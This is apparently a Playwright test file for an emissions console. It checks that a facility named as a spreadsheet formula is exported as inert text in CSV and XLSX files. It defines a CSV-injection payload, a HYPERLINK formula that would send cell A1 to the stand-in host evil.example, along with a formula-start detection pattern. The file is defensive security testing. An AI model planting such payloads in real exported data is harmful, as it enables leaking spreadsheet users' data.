import { readFile } from "node:fs/promises";
import { expect, type Page, test } from "@playwright/test";
import ExcelJS from "exceljs";
import { lastMonths } from "../../app/console/periods";
import { readCsv } from "../../contracts/csv";
import { consoleToken, verifiedPerson } from "./account-fixtures";
import { withCookieChoice } from "./chrome-fixtures";

/** A facility name a spreadsheet would run: it sends A1 to another site when clicked. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
/** The same name as the CSV must carry it: a leading ', the field quoted, its quotes doubled. */
const WRITTEN = `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`;
/** What a spreadsheet would run as a formula, as OWASP lists it. */
const FORMULA_START = /^[=+\-@\t\r\n]/;

test.beforeEach(async ({ page }) => {
  await withCookieChoice(page);
});

/**
 * In the account's own workspace (empty at sign-up): the company's organisation, a facility with that name and last
 * month's diesel and electricity.
 */
async function formulaFacility(page: Page) {
  const token = await consoleToken(page);
  const headers = { authorization: `Bearer ${token.accessToken}` };
  const org = await page.request.post("/v1/orgs", {
    headers,
    data: { name: "Rao Steel", country: "IN", industry: "manufacturing" },
  });
  expect(org.status()).toBe(201);
  const orgId = ((await org.json()) as { id: string }).id;
  const facility = await page.request.post("/v1/facilities", {
    headers,
    data: { org_id: orgId, name: HYPERLINK, country: "IN", lat: 19, lon: 73, industry: "manufacturing" },
  });
  expect(facility.status()).toBe(201);
  const facilityId = ((await facility.json()) as { id: string }).id;
  const month = lastMonths(new Date(), 1);
  const period = { period_start: month.from, period_end: month.to };
  const records = await page.request.post("/v1/activity-records", {
    headers,
    data: {
      records: [
        { facility_id: facilityId, activity: "diesel", quantity: 5_000_000, unit: "L", ...period },
        { facility_id: facilityId, activity: "grid_electricity", quantity: 2_000_000, unit: "kWh", ...period },
      ],
    },
  });
  expect(records.status()).toBe(201);
}

/** The CSV a button saves, as text. */
async function downloadedText(page: Page, button: RegExp) {
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: button }).click(),
  ]);
  return readFile((await download.path())!, "utf8");
}

/** The facility's line holds the name as text and its figures as numbers; no cell anywhere starts a formula. */
function expectNeutralised(csv: string) {
  const lines = csv.split("\r\n");
  const line = lines.find((l) => l.startsWith(WRITTEN));
  expect(line, csv).toBeDefined();
  // tCO2e and share, and in the report the GWP basis ("AR6", or quoted where a figure mixes sets).
  expect(line!.slice(WRITTEN.length)).toMatch(/^,\d+(\.\d+)?,\d+(\.\d+)?(,AR\d|,"AR\d[^"]*")?$/);
  expect(csv).not.toContain(`,${HYPERLINK.slice(0, 10)}`);
  const rows = readCsv(csv);
  expect(rows.map((r) => r[0])).toContain(`'${HYPERLINK}`);
  for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
}

test("a facility named as a formula is text in the breakdown's and the report's CSV, and in the XLSX", async ({
  page,
  request,
}) => {
  test.setTimeout(90_000);
  await verifiedPerson(page, request, "console-csv-formulae");
  await formulaFacility(page);

  await page.goto("/console/breakdown?by=facility");
  const breakdown = page.getByRole("table", { name: /^Emissions by facility/ });
  await expect(breakdown.getByRole("rowheader", { name: HYPERLINK })).toBeVisible();
  expectNeutralised(await downloadedText(page, /^Export CSV: Emissions by facility/));

  // The workbook keeps the name as a text cell, exactly as entered: a spreadsheet runs only formula cells.
  const [xlsx] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: /^Export XLSX: Emissions by facility/ }).click(),
  ]);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile((await xlsx.path())!);
  const cells: ExcelJS.Cell[] = [];
  workbook.worksheets[0]!.eachRow((row) => row.eachCell((c) => cells.push(c)));
  const named = cells.find((c) => c.text === HYPERLINK);
  expect(named?.type).toBe(ExcelJS.ValueType.String);
  expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);

  await page.goto("/console/report");
  const report = page.getByRole("table", { name: /^Emissions by facility/ });
  await expect(report.getByRole("rowheader", { name: HYPERLINK })).toBeVisible();
  expectNeutralised(await downloadedText(page, /^Export CSV: Emissions by facility/));
});
